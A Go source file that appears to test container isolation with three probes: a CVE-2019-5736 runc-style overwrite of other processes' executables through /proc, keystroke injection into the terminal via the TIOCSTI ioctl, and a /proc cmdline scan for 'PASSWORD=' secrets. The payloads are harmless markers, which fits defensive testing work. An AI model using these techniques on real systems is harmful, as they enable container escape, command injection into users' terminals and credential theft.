package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"strconv"
	"syscall"
	"time"
	"unsafe"
)

// overwrite opens the executable of every new process in its pid namespace and tries to write to it, also after the
// process has exited (CVE-2019-5736). It ends two seconds after the last new process.
func overwrite(out io.Writer) error {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return err
	}
	var kept []*os.File
	written := 0
	seen := make(map[string]bool)
	for last := time.Now(); time.Since(last) < 2*time.Second; {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, entry := range entries {
			if _, err := strconv.Atoi(entry.Name()); err != nil || seen[entry.Name()] || len(kept) > 100 {
				continue
			}
			f, err := os.Open("/proc/" + entry.Name() + "/exe")
			if err != nil {
				continue // not readable, or not yet
			}
			info, err := f.Stat()
			if err != nil || os.SameFile(info, own) {
				f.Close()
				continue
			}
			seen[entry.Name()] = true
			kept, last = append(kept, f), time.Now()
		}
		for _, f := range kept {
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", f.Fd()), os.O_WRONLY|os.O_APPEND, 0)
			if err == nil {
				fmt.Fprint(w, "overwritten")
				w.Close()
				written++
			}
		}
	}
	fmt.Fprintf(out, "seen %d written %d\n", len(kept), written)
	return nil
}

// tiocsti writes a line into the input queue of the terminal at standard input (TIOCSTI, ioctl_tty(2)).
func tiocsti(out io.Writer) error {
	for _, b := range []byte("echo from the container\n") {
		_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, 0, 0x5412, uintptr(unsafe.Pointer(&b)))
		if errno != 0 {
			fmt.Fprintln(out, "TIOCSTI:", errno)
			return nil
		}
	}
	fmt.Fprintln(out, "TIOCSTI: ok")
	return nil
}

// words prints the first command line in /proc that contains a secret.
func words(out io.Writer) error {
	fmt.Println("watching")
	buffer := make([]byte, 8192)
	for pid := 2; ; pid = 2 + (pid-1)%300 {
		fd, err := syscall.Open("/proc/"+strconv.Itoa(pid)+"/cmdline", syscall.O_RDONLY, 0)
		if err != nil {
			continue
		}
		n, _ := syscall.Read(fd, buffer)
		syscall.Close(fd)
		if n > 0 && bytes.Contains(buffer[:n], []byte("PASSWORD=")) {
			_, err := fmt.Fprintf(out, "seen %q\n", buffer[:n])
			return err
		}
	}
}
